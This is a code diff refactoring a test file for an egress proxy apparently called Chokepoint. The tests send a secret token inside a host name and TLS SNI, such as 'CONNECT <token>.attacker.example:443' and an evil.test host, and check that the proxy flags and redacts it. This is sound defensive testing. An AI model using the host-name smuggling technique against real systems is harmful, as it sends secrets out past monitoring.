@@ -2,6 +2,7 @@
 // `CONNECT <token>.attacker.example:443`), through a real Chokepoint on loopback: found and
 // recorded as a `host` finding, refused before any lookup where the pool blocks, and never
 // written down (access log, refusal, metrics).
+import type net from 'node:net';
 import tls from 'node:tls';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { generators } from './corpus/gen/github.js';
@@ -77,6 +78,18 @@ function header(reply: string, name: string): string | undefined {
 }
 
 /** Nothing Chokepoint wrote holds the token, in the case it was sent or lower-cased. */
+/**
+ * A ClientHello naming `servername` through an opened tunnel, then close it (the origin
+ * speaks no TLS: the handshake fails, the name was read).
+ */
+async function sendHello(socket: net.Socket, servername: string): Promise<void> {
+  const client = tls.connect({ socket, servername, rejectUnauthorized: false });
+  client.on('error', () => undefined);
+  await new Promise((r) => setTimeout(r, 200));
+  client.destroy();
+  socket.destroy();
+}
+
 function expectNeverWritten(text: string): void {
   expect(text).not.toContain(TOKEN);
   expect(text).not.toContain(LOWER);
@@ -107,12 +120,7 @@ describe('a secret in the host name, audit pool', () => {
   test('a CONNECT records one host finding; the tunnel line shows host and sni redacted', async () => {
     const t = await openTunnel(proxy.port, `${HOST}:${origin.port}`, { 'Proxy-Authorization': AUDIT });
     expect(t.status).toBe(200);
-    // A ClientHello naming the host (the origin speaks no TLS: the handshake fails, the name was read).
-    const client = tls.connect({ socket: t.socket, servername: HOST, rejectUnauthorized: false });
-    client.on('error', () => undefined);
-    await new Promise((r) => setTimeout(r, 200));
-    client.destroy();
-    t.socket.destroy();
+    await sendHello(t.socket, HOST);
     const line = await proxy.waitForLine((l) => l.kind === 'connect' && l.pool === 'watch');
     expect(line).toMatchObject({ host: '[redacted 40].evil.test', sni: '[redacted 40].evil.test', findings: 1, decision: 'audit', reason: 'secret-exfiltration' });
     const found = hostFindings('connect');
@@ -126,11 +134,7 @@ describe('a secret in the SNI of a tunnel for another name', () => {
   test('an audit pool lets the sni-mismatch through; the SNI is a host finding and its line shows it redacted', async () => {
     const t = await openTunnel(proxy.port, `clean.test:${origin.port}`, { 'Proxy-Authorization': AUDIT });
     expect(t.status).toBe(200);
-    const client = tls.connect({ socket: t.socket, servername: HOST, rejectUnauthorized: false });
-    client.on('error', () => undefined);
-    await new Promise((r) => setTimeout(r, 200));
-    client.destroy();
-    t.socket.destroy();
+    await sendHello(t.socket, HOST);
     const line = await proxy.waitForLine((l) => l.kind === 'connect' && l.host === 'clean.test');
     expect(line).toMatchObject({ pool: 'watch', sni: '[redacted 40].evil.test', decision: 'audit', reason: 'sni-mismatch', findings: 1 });
     const found = proxy.lines().filter((l) => l.msg === 'finding' && l.kind === 'connect' && l.host === 'clean.test');
